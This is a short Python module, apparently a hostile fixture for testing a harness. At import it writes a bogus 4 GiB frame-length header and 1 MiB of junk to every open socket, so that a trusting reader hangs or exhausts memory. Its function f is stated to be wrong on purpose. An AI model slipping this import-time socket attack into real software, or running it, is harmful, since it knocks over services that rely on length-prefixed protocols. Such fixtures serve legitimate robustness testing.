# At import, writes to every socket it holds a frame header announcing 4 GiB (0xFFFFFFFF, 4 bytes
# big-endian) followed by 1 MiB of junk: a reader that trusted the length would wait or allocate for
# ever. f itself is wrong.
import os
import stat


def _sockets():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass


for _fd in _sockets():
    os.set_blocking(_fd, False)
    for _chunk in (b"\xff\xff\xff\xff", b"\x00" * (1024 * 1024)):
        try:
            os.write(_fd, _chunk)
        except OSError:
            pass
    os.set_blocking(_fd, True)


def f(x):
    return x + 1
